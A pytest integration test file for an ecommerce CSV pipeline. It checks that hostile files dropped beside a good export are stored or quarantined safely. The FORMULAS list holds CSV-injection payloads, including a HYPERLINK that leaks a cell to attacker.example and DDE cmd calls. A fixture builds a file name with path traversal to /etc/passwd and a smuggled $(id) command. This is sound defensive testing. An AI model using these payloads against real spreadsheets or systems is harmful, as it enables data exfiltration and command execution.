"""Hostile files dropped together with a good export: each is stored or quarantined, the good file is whole.

All files reach the watched folder within a few seconds of each other, so the flow handles
them side by side. The lake is then read back independently, as in test_flow_in_nifi.py.
HOSTILE_LINE_MB sets the size of the single-line file (1024 MB, as in issue 11, by default).
"""

import csv
import hashlib
import io
import os
import threading
import time
import uuid

import pyarrow.parquet as pq
import pytest
from cryptography.fernet import Fernet

from conftest import REPO
from ecommerce_pipeline.cleaning import clean_frame, read_raw_csv
from ecommerce_pipeline.object_keys import safe_stem
from ecommerce_pipeline.sample_data import write_sample_csv
from ecommerce_pipeline.waiting import wait_until
from inbox import INBOX, drop, lake_key, wait_for_rows
from lake import assert_lake_holds_exactly, assert_no_plaintext, delete_objects, keys_of

pytestmark = pytest.mark.integration

GOOD_ROWS = 20_000
GROWING_ROWS = 10_000
LINE_BYTES = int(os.environ.get("HOSTILE_LINE_MB", "1024")) * 2**20
PIECE_BYTES = 16 * 2**20  # the flow's "Cut unreadable content into pieces" Segment Size
FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")', "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1,1)",
            "-2+3+cmd|' /C notepad'!A1"]
OVERLONG_FIRST_LINE = "the first 16384 characters hold no line break: not a CSV export header"
NIFI_LOGS = (REPO / ".stack" / "nifi" / "logs" / "nifi-app.log", REPO / ".stack" / "logs" / "nifi.log")


def with_formulas(path) -> bytes:
    """The export with spreadsheet formulas as first names and discount codes: data, to be kept as it is."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    header = rows[0]
    for number, row in enumerate(rows[1:]):
        row[header.index("First Name")] = FORMULAS[number % len(FORMULAS)]
        row[header.index("Discount Code")] = FORMULAS[(number + 1) % len(FORMULAS)]
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8", newline="")
    return path.read_bytes()


def write_single_line(path, size: int) -> None:
    block = (b"A" * 1023 + b",") * 1024
    with open(path, "wb") as out:
        for _ in range(size // len(block)):
            out.write(block)
        out.write(block[: size % len(block)])


def grow_in_inbox(source: bytes, name: str, seconds: int = 20) -> threading.Thread:
    """Writes `source` straight into the inbox in `seconds` appends, one a second, as a slow exporter would."""
    def write():
        step = -(-len(source) // seconds)
        with open(INBOX / name, "wb") as out:
            for start in range(0, len(source), step):
                out.write(source[start:start + step])
                out.flush()
                time.sleep(1)

    thread = threading.Thread(target=write, daemon=True)
    thread.start()
    return thread


def pieces_of(path) -> list[tuple[int, str]]:
    """(size, SHA-256) of each piece the flow cuts a file into, sorted."""
    with open(path, "rb") as source:
        return sorted((len(piece), hashlib.sha256(piece).hexdigest()) for piece in iter(lambda: source.read(PIECE_BYTES), b""))


def wait_for_pieces(minio, stem, total_bytes, timeout=600):
    """(size, SHA-256) of each quarantined piece's plaintext, sorted, and their reasons, once they add up to the file."""
    fernet = Fernet(lake_key())
    stored = [0]

    def all_pieces():
        keys = [key for key in keys_of(minio, stem) if key.endswith(".csv.fernet")]
        if len(keys) * PIECE_BYTES >= total_bytes:
            pieces, reasons = [], set()
            for key in keys:
                got = minio.client().get_object(Bucket=minio.bucket, Key=key)
                plain = fernet.decrypt(got["Body"].read())
                pieces.append((len(plain), hashlib.sha256(plain).hexdigest()))
                reasons.add(got["Metadata"].get("reason", ""))
            stored[0] = sum(size for size, _ in pieces)
            if stored[0] >= total_bytes:
                return sorted(pieces), reasons

    return wait_until(all_pieces, f"{stem}'s pieces in quarantine", timeout, every=5, report=None,
                      error=pytest.fail.Exception, pending=lambda: f"{stored[0]:,} of {total_bytes:,} bytes")


def log_sizes() -> list[int]:
    return [log.stat().st_size if log.exists() else 0 for log in NIFI_LOGS]


@pytest.fixture(scope="module")
def dropped(minio, deployed_flow, tmp_path_factory):
    """A good export, then the hostile files, all in the inbox within seconds; the names each test reads."""
    folder = tmp_path_factory.mktemp("hostile")
    tag = uuid.uuid4().hex[:8]
    files = {
        "good": folder / f"orders-{tag}.csv",
        "single line": folder / f"one-line-{tag}.csv",
        "100k columns": folder / f"wide-{tag}.csv",
        "formulas": folder / f"formulas-{tag}.csv",
        "traversal": folder / f"orders {tag} ..\\..\\..\\etc\\passwd;$(id).csv",
    }
    write_sample_csv(files["good"], rows=GOOD_ROWS, seed=31, bad_row_fraction=0.02, crlf=True)
    write_single_line(files["single line"], LINE_BYTES)
    header = ",".join(f"column {n}" for n in range(100_000))
    files["100k columns"].write_text(header + "\n" + "\n".join(",".join(["x"] * 100_000) for _ in range(3)) + "\n")
    write_sample_csv(files["formulas"], rows=200, seed=32)
    with_formulas(files["formulas"])
    write_sample_csv(files["traversal"], rows=300, seed=33)
    growing = folder / f"growing-{tag}.csv"
    write_sample_csv(growing, rows=GROWING_ROWS, seed=34)
    files["growing"] = growing

    log_offsets = log_sizes()
    started = time.monotonic()
    drop(files["good"])
    writer = grow_in_inbox(growing.read_bytes(), growing.name)
    for kind in ("single line", "100k columns", "formulas", "traversal"):
        drop(files[kind])
    yield files, log_offsets, started
    writer.join()
    for path in files.values():
        delete_objects(minio, keys_of(minio, safe_stem(path.stem)))


def expected(path):
    return clean_frame(read_raw_csv(path.read_bytes()))


def test_the_good_export_in_flight_is_stored_whole(minio, dropped):
    files, _, started = dropped
    objects = wait_for_rows(minio, files["good"].stem, GOOD_ROWS)
    print(f"\n{GOOD_ROWS:,}-row export beside the hostile files: in the lake {time.monotonic() - started:.0f}s after the drop")
    assert_lake_holds_exactly(objects, expected(files["good"]), lake_key())
    assert_no_plaintext(objects, read_raw_csv(files["good"].read_bytes()))


def test_a_file_still_being_written_is_taken_once_complete(minio, dropped):
    files, _, started = dropped
    objects = wait_for_rows(minio, files["growing"].stem, GROWING_ROWS)
    print(f"\nfile written for 20 s: in the lake {time.monotonic() - started:.0f}s after its first bytes")
    assert not [key for key in keys_of(minio, files["growing"].stem) if key.endswith(".csv.fernet")], "no partial file"
    assert_lake_holds_exactly(objects, expected(files["growing"]), lake_key())


def test_spreadsheet_formulas_are_stored_as_the_text_they_are(minio, dropped):
    files, _, _ = dropped
    objects = wait_for_rows(minio, files["formulas"].stem, 200)
    assert_lake_holds_exactly(objects, expected(files["formulas"]), lake_key())
    fernet = Fernet(lake_key())
    names = {fernet.decrypt(row.encode()).decode() for row in _column(objects["customer_info"], "first_name")}
    assert names == set(FORMULAS)


def test_a_path_traversal_name_gives_keys_inside_their_prefix(minio, dropped):
    files, _, _ = dropped
    stem = safe_stem(files["traversal"].stem)
    objects = wait_for_rows(minio, stem, 300)
    keys = [key for items in objects.values() for key, _ in items]
    assert keys and all(key.count("/") == 2 and "\\" not in key and "/.." not in key for key in keys)
    assert_lake_holds_exactly(objects, expected(files["traversal"]), lake_key())


def test_a_100k_column_file_is_quarantined_whole_with_its_reason(minio, dropped):
    files, _, _ = dropped
    path = files["100k columns"]
    pieces, reasons = wait_for_pieces(minio, path.stem, path.stat().st_size)
    assert pieces == pieces_of(path) and len(pieces) == 1
    assert reasons == {OVERLONG_FIRST_LINE}


def test_a_single_line_file_is_quarantined_in_pieces_without_exhausting_memory(minio, dropped):
    files, log_offsets, started = dropped
    path = files["single line"]
    pieces, reasons = wait_for_pieces(minio, path.stem, LINE_BYTES)
    print(f"\n{LINE_BYTES / 2**20:,.0f} MB single line: {len(pieces)} pieces quarantined {time.monotonic() - started:.0f}s after the drop")
    assert pieces == pieces_of(path) and len(pieces) == -(-LINE_BYTES // PIECE_BYTES)
    assert reasons == {OVERLONG_FIRST_LINE}
    for log, offset in zip(NIFI_LOGS, log_offsets, strict=True):
        with open(log, "rb") as text:
            text.seek(offset if text.seek(0, 2) >= offset else 0)
            assert b"OutOfMemoryError" not in text.read(), log


def _column(items, name):
    return [value for _, body in items for value in pq.read_table(io.BytesIO(body)).column(name).to_pylist()]
